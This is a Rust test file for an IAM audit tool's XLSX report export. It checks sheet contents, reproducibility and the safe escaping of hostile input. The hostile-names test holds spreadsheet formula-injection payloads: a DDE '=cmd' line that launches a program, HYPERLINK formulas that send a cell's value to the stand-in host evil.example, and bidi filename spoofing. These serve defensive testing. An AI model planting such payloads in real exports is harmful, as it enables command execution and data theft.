//! `--format xlsx`: the workbook read back with a spreadsheet library
//! (calamine) and compared with the JSON report of the same run: its five
//! sheets, the results with the CSV's columns (waiver and benchmark columns
//! included), the evidence with hashes, the controls and the waivers; the
//! same bytes on every run; hostile names (formulas, control characters,
//! bidi, Excel's own `_xHHHH_` escapes, rich-text XML, very long) read back
//! as the same text, in XML that parses; several `-o` with a `.xlsx`; and
//! no workbook thrown at a terminal.

mod common;

use std::io::{Cursor, Read};
use std::path::Path;

use calamine::{Data, Reader, Xlsx};
use common::*;
use iam_audit::report::{csv::COLUMNS, xlsx};
use serde_json::Value;

/// `evaluate ARGS --format xlsx -o FILE`: the workbook's bytes.
fn workbook_bytes(args: &[&str]) -> Vec<u8> {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("report.xlsx");
    let mut all = vec!["evaluate"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--format", "xlsx", "-o", file.to_str().unwrap()]);
    let out = run(&all);
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{args:?}: {}",
        stderr(&out)
    );
    assert!(out.stdout.is_empty());
    std::fs::read(&file).unwrap()
}

/// A sheet as rows of text (numbers as integers, blanks as "").
fn sheet(bytes: &[u8], name: &str) -> Vec<Vec<String>> {
    let mut book = Xlsx::new(Cursor::new(bytes.to_vec())).expect("an XLSX file");
    let range = book.worksheet_range(name).expect("the sheet");
    assert_eq!(range.start(), Some((0, 0)), "{name} starts at A1");
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|cell| match cell {
                    Data::Empty => String::new(),
                    Data::String(s) => s.clone(),
                    Data::Float(f) => format!("{f}"),
                    Data::Int(i) => i.to_string(),
                    other => panic!("{name}: an unexpected cell {other:?}"),
                })
                .collect()
        })
        .collect()
}

/// The rows of a sheet's table as maps from its header's names.
fn records(rows: &[Vec<String>]) -> Vec<std::collections::BTreeMap<String, String>> {
    let header = &rows[0];
    rows[1..]
        .iter()
        .map(|row| header.iter().cloned().zip(row.iter().cloned()).collect())
        .collect()
}

/// One part of the zip, as text.
fn part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
    let mut text = String::new();
    zip.by_name(name)
        .expect("the part")
        .read_to_string(&mut text)
        .expect("UTF-8");
    text
}

/// Every XML part of the workbook parses as XML.
fn assert_well_formed(bytes: &[u8]) {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().to_string();
        let mut text = String::new();
        entry.read_to_string(&mut text).expect("UTF-8");
        let mut reader = quick_xml::Reader::from_str(&text);
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(_) => {}
                Err(e) => panic!("{name} is not well-formed XML: {e}"),
            }
        }
    }
}

/// The JSON report of the same arguments.
fn json(args: &[&str]) -> Value {
    json_report(args).1
}

fn text<'a>(v: &'a Value, key: &str) -> &'a str {
    v[key].as_str().unwrap_or_default()
}

#[test]
fn the_demo_workbook_has_its_sheets_and_one_row_per_result() {
    let bytes = workbook_bytes(&["snapshots/demo"]);
    let book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    assert_eq!(book.sheet_names(), xlsx::SHEETS);
    let report = json(&["snapshots/demo"]);

    let rows = sheet(&bytes, "Results");
    assert_eq!(rows[0], COLUMNS, "the CSV's columns, in its order");
    let results = report["results"].as_array().unwrap();
    assert_eq!(rows.len() - 1, results.len());
    for (row, r) in records(&rows).iter().zip(results) {
        assert_eq!(row["account"], text(r, "account"));
        assert_eq!(row["policy"], text(r, "policy"));
        assert_eq!(row["status"], text(r, "status"));
        assert_eq!(row["severity"], text(r, "severity"));
        assert_eq!(row["subject"], text(r, "subject"));
        assert_eq!(row["principal"], text(r, "principal"));
        assert_eq!(row["message"], text(r, "message"));
        assert_eq!(row["result_id"], text(r, "id"));
        assert_eq!(row["evidence_file"], text(&r["location"], "file"));
        assert_eq!(row["evidence_pointer"], text(&r["location"], "pointer"));
        let line = r["location"]["line"].as_u64();
        assert_eq!(
            row["evidence_line"],
            line.map(|n| n.to_string()).unwrap_or_default()
        );
        assert_eq!(row["as_of"], "2026-11-20T09:30:00Z");
    }

    // The summary: the scope and the counts of the JSON report.
    let summary = sheet(&bytes, "Summary");
    let field = |name: &str| {
        summary
            .iter()
            .find(|row| row[0] == name)
            .map(|row| row[1].clone())
            .unwrap_or_else(|| panic!("no `{name}` row"))
    };
    assert_eq!(
        field("tool"),
        format!("iam-audit {}", env!("CARGO_PKG_VERSION"))
    );
    assert_eq!(
        field("pack"),
        format!(
            "{} {}",
            text(&report["pack"], "name"),
            text(&report["pack"], "version")
        )
    );
    assert_eq!(field("as_of"), "2026-11-20T09:30:00Z");
    assert_eq!(field("as_of_source"), "credential-report");
    assert_eq!(field("accounts"), "123456789012");
    for status in [
        "total",
        "pass",
        "fail",
        "error",
        "not-applicable",
        "not-evaluated",
        "waived",
    ] {
        assert_eq!(
            field(status),
            report["summary"][status].to_string(),
            "{status}"
        );
    }
    let fails =
        report["summary"]["fail"].as_u64().unwrap() + report["summary"]["error"].as_u64().unwrap();
    assert_eq!(field("fail + error"), fails.to_string());
    let accounts = summary
        .iter()
        .position(|row| row[0] == "account" && row[1] == "snapshot")
        .expect("the per-account table");
    assert_eq!(summary[accounts], xlsx::ACCOUNT_COLUMNS);
    assert_eq!(summary[accounts + 1][0], "123456789012");
    assert_eq!(
        summary[accounts + 1][5],
        report["summary"]["total"].to_string()
    );

    // The controls, with their versions and counts.
    let controls = sheet(&bytes, "Controls");
    assert_eq!(controls[0], xlsx::CONTROL_COLUMNS);
    let policies = report["policies"].as_array().unwrap();
    assert_eq!(controls.len() - 1, policies.len());
    for (row, p) in records(&controls).iter().zip(policies) {
        assert_eq!(row["policy"], text(p, "id"));
        assert_eq!(row["version"], text(p, "version"));
        assert_eq!(row["severity"], text(p, "severity"));
        assert_eq!(row["title"], text(p, "title"));
        assert_eq!(row["benchmark_control"], "", "no benchmark chosen");
        let requires: Vec<&str> = p["requires"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r.as_str().unwrap())
            .collect();
        assert_eq!(row["requires"], requires.join(", "));
        let failing = report["results"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["policy"] == p["id"] && r["status"] == "fail")
            .count();
        assert_eq!(row["fail"], failing.to_string(), "{}", text(p, "id"));
    }
    let mfa = records(&controls)
        .into_iter()
        .find(|row| row["policy"] == "console-password-requires-mfa")
        .unwrap();
    assert!(mfa["cis_aws"].contains("v5.0 1.9"), "{}", mfa["cis_aws"]);

    // No waivers file: the sheet has its header only.
    assert_eq!(
        sheet(&bytes, "Waivers"),
        vec![xlsx::WAIVER_COLUMNS.map(String::from).to_vec()]
    );
}

#[test]
fn the_results_header_is_frozen_and_filtered_and_columns_have_widths() {
    let bytes = workbook_bytes(&["snapshots/demo"]);
    let results = part(&bytes, "xl/worksheets/sheet2.xml");
    let rows = sheet(&bytes, "Results").len();
    assert!(
        results.contains(
            r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#
        ),
        "{results}"
    );
    assert!(
        results.contains(&format!(r#"<autoFilter ref="A1:V{rows}"/>"#)),
        "the whole table"
    );
    assert!(results.contains("<cols>") && results.contains("customWidth=\"1\""));
    // The evidence and controls sheets are tables too.
    assert!(part(&bytes, "xl/worksheets/sheet3.xml").contains(r#"<autoFilter ref="A1:E7"/>"#));
    assert!(part(&bytes, "xl/worksheets/sheet4.xml").contains("<autoFilter ref=\"A1:Q"));
    // The creation time is the as-of time, never the clock.
    let core = part(&bytes, "docProps/core.xml");
    assert!(
        core.contains(
            "<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-11-20T09:30:00Z</dcterms:created>"
        ),
        "{core}"
    );
    assert_well_formed(&bytes);
}

#[test]
fn a_waived_row_carries_its_waiver_and_the_benchmark_number() {
    let args = [
        "snapshots/demo",
        "--waivers",
        "tests/fixtures/waivers/demo.json",
        "--benchmark",
        "cis-aws-v5.0",
    ];
    let bytes = workbook_bytes(&args);
    let report = json(&args);
    let results = records(&sheet(&bytes, "Results"));
    let waived: Vec<_> = results.iter().filter(|r| r["status"] == "waived").collect();
    assert_eq!(
        waived.len() as u64,
        report["summary"]["waived"].as_u64().unwrap()
    );
    let bob = waived
        .iter()
        .find(|r| r["subject"] == "arn:aws:iam::123456789012:user/bob")
        .expect("bob's waived row");
    assert_eq!(
        bob["waiver_reason"],
        "break-glass user; hardware MFA token ordered (ticket SEC-142)"
    );
    assert_eq!(bob["waiver_approver"], "ciso@example.com");
    assert_eq!(bob["waiver_expires"], "2026-12-01");
    assert_eq!(bob["benchmark_control"], "1.9");
    // Only waived rows have waiver cells; every row has its CIS number.
    for (row, r) in results.iter().zip(report["results"].as_array().unwrap()) {
        assert_eq!(row["benchmark_control"], text(r, "benchmark_control"));
        assert!(!row["benchmark_control"].is_empty());
        assert_eq!(row["waiver_reason"].is_empty(), row["status"] != "waived");
    }

    let summary = sheet(&bytes, "Summary");
    assert!(summary
        .iter()
        .any(|r| r[0] == "benchmark" && r[1] == "cis-aws-v5.0"));
    assert!(summary
        .iter()
        .any(|r| r[0] == "waivers file" && r[1].starts_with("demo.json (sha256 ")));
    assert!(summary
        .iter()
        .any(|r| r[0] == "warning" && r[1].contains("`/waivers/1` names policy")));

    let controls = records(&sheet(&bytes, "Controls"));
    let mfa = controls
        .iter()
        .find(|c| c["policy"] == "console-password-requires-mfa")
        .unwrap();
    assert_eq!(mfa["benchmark_control"], "1.9");
    assert_eq!(mfa["waived"], "1");

    // The waivers, as the JSON report lists them, with their state.
    let waivers = sheet(&bytes, "Waivers");
    assert_eq!(waivers[0], xlsx::WAIVER_COLUMNS);
    let listed = report["waivers"].as_array().unwrap();
    assert_eq!(waivers.len() - 1, listed.len());
    for (row, w) in records(&waivers).iter().zip(listed) {
        for key in [
            "pointer", "policy", "subject", "result", "reason", "approver", "expires", "state",
        ] {
            assert_eq!(row[key], text(w, key), "{key}");
        }
        assert_eq!(row["matched"], w["matched"].to_string());
        assert_eq!(row["waived"], w["waived"].to_string());
    }
    assert!(records(&waivers).iter().any(|w| w["state"] == "applied"));
}

#[test]
fn the_organization_lists_every_evidence_file_with_its_hash_and_account() {
    let bytes = workbook_bytes(&["snapshots/org"]);
    let report = json(&["snapshots/org"]);
    let evidence = sheet(&bytes, "Evidence");
    assert_eq!(evidence[0], xlsx::EVIDENCE_COLUMNS);
    let files = report["evidence"].as_array().unwrap();
    assert_eq!(evidence.len() - 1, files.len());
    let accounts: std::collections::BTreeMap<&str, &str> = report["snapshots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (text(s, "name"), text(s, "account")))
        .collect();
    assert!(accounts.len() > 1);
    for (row, f) in records(&evidence).iter().zip(files) {
        assert_eq!(row["path"], text(f, "path"));
        assert_eq!(row["kind"], text(f, "kind"));
        assert_eq!(row["bytes"], f["bytes"].to_string());
        assert_eq!(row["sha256"], text(f, "sha256"));
        assert_eq!(row["sha256"].len(), 64);
        let folder = row["path"].split('/').next().unwrap();
        assert_eq!(row["account"], accounts[folder], "{}", row["path"]);
    }
    // One summary row per account, and results of each account.
    let summary = sheet(&bytes, "Summary");
    for account in accounts.values() {
        assert!(summary.iter().any(|r| r[0] == *account), "{account}");
    }
    let results = sheet(&bytes, "Results");
    assert_eq!(
        results.len() - 1,
        report["results"].as_array().unwrap().len()
    );
}

#[test]
fn a_second_run_writes_the_same_bytes_and_stdout_holds_them_too() {
    for args in [
        &["snapshots/demo"][..],
        &["snapshots/org"][..],
        &[
            "snapshots/demo",
            "--waivers",
            "tests/fixtures/waivers/demo.json",
            "--benchmark",
            "cis-aws-v5.0",
        ][..],
    ] {
        let first = workbook_bytes(args);
        assert_eq!(first, workbook_bytes(args), "{args:?}");
        // Redirected stdout (not a terminal) gets the same workbook.
        let mut all = vec!["evaluate"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--format", "xlsx"]);
        let out = run(&all);
        assert_eq!(out.status.code(), Some(1));
        assert_eq!(out.stdout, first, "{args:?}");
        assert!(first.starts_with(b"PK\x03\x04"), "a zip file");
    }
}

/// A copy of the hostile-names fixture with users whose names are the
/// hardest text for a workbook.
fn hostile_copy(dir: &Path, names: &[String]) {
    copy_tree(&root().join("tests/fixtures/hostile-names"), dir);
    let file = dir.join("authorization-details.json");
    let mut details: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    let users = details["UserDetailList"].as_array_mut().unwrap();
    let template = users[1].clone();
    for (i, name) in names.iter().enumerate() {
        let mut user = template.clone();
        user["UserName"] = name.as_str().into();
        user["UserId"] = format!("AIDA99999999999999{i:02}").into();
        user["Arn"] = format!("arn:aws:iam::123456789012:user/{name}").into();
        users.push(user);
    }
    std::fs::write(&file, serde_json::to_vec(&details).unwrap()).unwrap();
}

#[test]
fn hostile_names_read_back_as_the_same_text() {
    let names: Vec<String> = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "@SUM(A1)",
        "ctl\u{0}\u{1}\u{1b}[2J\u{7}\u{b}\u{c}\r\u{7f}\u{85}end",
        "bidi\u{202e}gnp.exe\u{2066}x\u{2069}",
        "_x0041_ and _x005F_ and _xD83D_",
        "<r><t>rich</t></r>",
        "<r>&amp;</r>",
        " leading and trailing ",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain(["L".repeat(5000)])
    .collect();
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("snapshot");
    hostile_copy(&dir, &names);
    let path = dir.to_str().unwrap();
    let bytes = workbook_bytes(&[path]);
    assert_well_formed(&bytes);
    let report = json(&[path]);
    let rows = records(&sheet(&bytes, "Results"));
    let results = report["results"].as_array().unwrap();
    assert_eq!(rows.len(), results.len());
    for (row, r) in rows.iter().zip(results) {
        for (column, key) in [
            ("subject", "subject"),
            ("principal", "principal"),
            ("resource", "resource"),
            ("message", "message"),
            ("result_id", "id"),
        ] {
            assert_eq!(row[column], text(r, key), "{column}");
        }
        let line = r["location"]["line"].as_u64();
        assert_eq!(
            row["evidence_line"],
            line.map(|n| n.to_string()).unwrap_or_default()
        );
    }
    // A credential report's line is a number cell, so it sorts as one.
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("Results").unwrap();
    let line = COLUMNS.iter().position(|c| *c == "evidence_line").unwrap();
    let lines: Vec<&Data> = range.rows().skip(1).map(|row| &row[line]).collect();
    assert!(lines
        .iter()
        .any(|c| matches!(c, Data::Float(n) if *n >= 2.0)));
    assert!(lines
        .iter()
        .all(|c| matches!(c, Data::Float(_) | Data::Empty)));
    let subjects: std::collections::BTreeSet<&str> =
        rows.iter().map(|r| r["subject"].as_str()).collect();
    for name in names
        .iter()
        .chain(&["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string()])
    {
        let arn = format!("arn:aws:iam::123456789012:user/{name}");
        assert!(subjects.contains(arn.as_str()), "{name:?} is not a subject");
    }
    // Never a formula: every cell of every sheet is a value.
    for n in 1..=5 {
        let xml = part(&bytes, &format!("xl/worksheets/sheet{n}.xml"));
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "sheet{n} has a formula"
        );
    }
}

#[test]
fn text_longer_than_a_cell_is_cut_with_a_note_and_the_file_stays_valid() {
    let long = "M".repeat(40_000);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("snapshot");
    hostile_copy(&dir, std::slice::from_ref(&long));
    let bytes = workbook_bytes(&[dir.to_str().unwrap()]);
    assert_well_formed(&bytes);
    let rows = records(&sheet(&bytes, "Results"));
    let cut: Vec<_> = rows
        .iter()
        .filter(|r| r["subject"].contains("MMMM"))
        .collect();
    assert!(!cut.is_empty());
    for row in cut {
        let subject = &row["subject"];
        assert!(subject.starts_with(&format!(
            "arn:aws:iam::123456789012:user/{}",
            "M".repeat(30_000)
        )));
        assert!(
            subject.contains("cut: the text is 40031 UTF-16 units"),
            "{}",
            &subject[32_000..]
        );
        assert!(subject.encode_utf16().count() <= xlsx::CELL_LIMIT);
    }
}

#[test]
fn json_and_xlsx_in_one_run_equal_a_run_of_each() {
    let tmp = tempfile::tempdir().unwrap();
    let json_file = tmp.path().join("a.json");
    let xlsx_file = tmp.path().join("b.XLSX");
    let args = ["snapshots/demo", "--benchmark", "cis-aws-v5.0"];
    let out = run(&[
        "evaluate",
        args[0],
        args[1],
        args[2],
        "-o",
        json_file.to_str().unwrap(),
        "-o",
        xlsx_file.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    assert_eq!(std::fs::read(&xlsx_file).unwrap(), workbook_bytes(&args));
    let alone = run(&["evaluate", args[0], args[1], args[2], "--format", "json"]);
    assert_eq!(std::fs::read(&json_file).unwrap(), alone.stdout);
}

#[test]
fn the_xlsx_format_is_listed_where_formats_are_named() {
    let help = stdout(&run(&["evaluate", "--help"]));
    assert!(help.contains("xlsx"), "{help}");
    let refused = run(&["evaluate", "snapshots/demo", "-o", "a.json", "-o", "b.xls"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(stderr(&refused).contains("`.xlsx`"), "{}", stderr(&refused));
}

/// A workbook is refused on a terminal (exit 2, before any evidence is
/// read) and written when stdout is a pseudo-terminal's but `-o` is given.
#[cfg(target_os = "linux")]
#[test]
fn a_terminal_gets_no_workbook() {
    use std::os::fd::FromRawFd;
    // SAFETY: plain POSIX calls on descriptors this test opens and owns;
    // `ptsname_r` writes into the buffer it is given.
    let (master, slave) = unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(master >= 0, "no pseudo-terminal");
        assert_eq!(libc::grantpt(master), 0);
        assert_eq!(libc::unlockpt(master), 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(master, name.as_mut_ptr(), name.len()), 0);
        let slave = libc::open(name.as_ptr(), libc::O_RDWR | libc::O_NOCTTY);
        assert!(slave >= 0);
        (
            std::fs::File::from_raw_fd(master),
            std::fs::File::from_raw_fd(slave),
        )
    };
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("r.xlsx");
    let refused = cmd(&["evaluate", "snapshots/no-such-folder", "--format", "xlsx"])
        .stdout(slave.try_clone().unwrap())
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2));
    let message = stderr(&refused);
    assert!(
        message.contains("`--format xlsx` writes a binary file, which a terminal cannot show: give `-o FILE.xlsx`"),
        "{message}"
    );
    assert!(
        !message.contains("no-such-folder"),
        "refused before reading: {message}"
    );
    let written = cmd(&[
        "evaluate",
        "snapshots/demo",
        "--format",
        "xlsx",
        "-o",
        file.to_str().unwrap(),
    ])
    .stdout(slave)
    .output()
    .unwrap();
    assert_eq!(written.status.code(), Some(1), "{}", stderr(&written));
    assert!(std::fs::read(&file).unwrap().starts_with(b"PK"));
    drop(master);
}

/// `--benchmark`: the `Requirements` sheet lists each requirement of the
/// benchmark in its order with the status, controls and counts of the JSON
/// report's `frameworks`; without a benchmark it holds the header only.
#[test]
fn the_requirements_sheet_matches_the_json_frameworks() {
    let args = ["snapshots/demo", "--benchmark", "cis-aws-v5.0"];
    let bytes = workbook_bytes(&args);
    let rows = sheet(&bytes, "Requirements");
    assert_eq!(rows[0], xlsx::REQUIREMENT_COLUMNS);
    let report = json(&args);
    let view = &report["frameworks"][0];
    let requirements = view["requirements"].as_array().unwrap();
    assert_eq!(rows.len() - 1, requirements.len());
    let records = records(&rows);
    for (row, r) in records.iter().zip(requirements) {
        assert_eq!(row["framework"], "cis-aws-v5.0");
        assert_eq!(row["requirement"], text(r, "id"));
        let status = text(r, "status").replace('-', " ").to_uppercase();
        assert!(row["status"].starts_with(&status), "{row:?}");
        assert_eq!(row["fail"], r["results"]["fail"].to_string());
        assert_eq!(row["pass"], r["results"]["pass"].to_string());
        assert_eq!(
            row["manual_reason"],
            r["manual"].as_str().unwrap_or_default()
        );
    }
    let empty = sheet(&workbook_bytes(&["snapshots/demo"]), "Requirements");
    assert_eq!(empty.len(), 1);
}
